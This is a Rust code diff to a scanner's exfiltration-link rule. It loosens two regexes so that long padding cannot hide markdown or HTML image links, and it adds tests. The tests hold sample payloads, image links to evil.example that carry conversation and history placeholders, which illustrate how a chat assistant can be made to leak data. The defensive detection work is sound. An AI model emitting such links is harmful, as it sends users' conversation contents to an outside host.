@@ -918,9 +918,13 @@ fn exfiltration(text: &str, lines: &LineIndex, findings: &mut Vec<Finding>) {
     static PATTERNS: OnceLock<[Regex; 3]> = OnceLock::new();
     let [markdown, html, suspicious] = PATTERNS.get_or_init(|| {
         [
-            Regex::new(r"!?\[[^\]\n]{0,200}\]\(\s*<?(https?://[^\s)]+)").expect("markdown links"),
+            // No bound on the link text or the attributes before `src`:
+            // a bound is padding away from evasion, and a bounded
+            // repetition of a Unicode class makes a huge automaton
+            // (compiling it was most of confab chat's start-up).
+            Regex::new(r"!?\[[^\[\]\n]*\]\(\s*<?(https?://[^\s)]+)").expect("markdown links"),
             Regex::new(
-                r#"(?i)<(?:img|iframe|image|script|link|a|source|video|audio|object|embed)(?-u:\b)[^>]{0,200}?(?-u:\b)(?:src|href|data)\s*=\s*(?:"(https?://[^"]*)"|'(https?://[^']*)'|(https?://[^\s>]+))"#,
+                r#"(?i)<(?:img|iframe|image|script|link|a|source|video|audio|object|embed)(?-u:\b)[^>]*?(?-u:\b)(?:src|href|data)\s*=\s*(?:"(https?://[^"]*)"|'(https?://[^']*)'|(https?://[^\s>]+))"#,
             )
             .expect("html links"),
             Regex::new(
@@ -1194,6 +1198,24 @@ mod tests {
         ] {
             assert!(!flags(benign, Rule::ExfiltrationLink), "{benign}");
         }
+    }
+
+    #[test]
+    fn padding_does_not_hide_an_exfiltration_link() {
+        let padding = "a".repeat(300);
+        assert!(flags(
+            &format!("![{padding}](https://evil.example/log?data={{{{conversation}}}})"),
+            Rule::ExfiltrationLink
+        ));
+        assert!(flags(
+            &format!("<img alt=\"{padding}\" src=\"https://evil.example/s?d=${{history}}\">"),
+            Rule::ExfiltrationLink
+        ));
+        // A bracket before the link does not swallow it.
+        assert!(flags(
+            "see [note [1]: ![x](https://evil.example/log?data={{conversation}})",
+            Rule::ExfiltrationLink
+        ));
     }
 
     #[test]
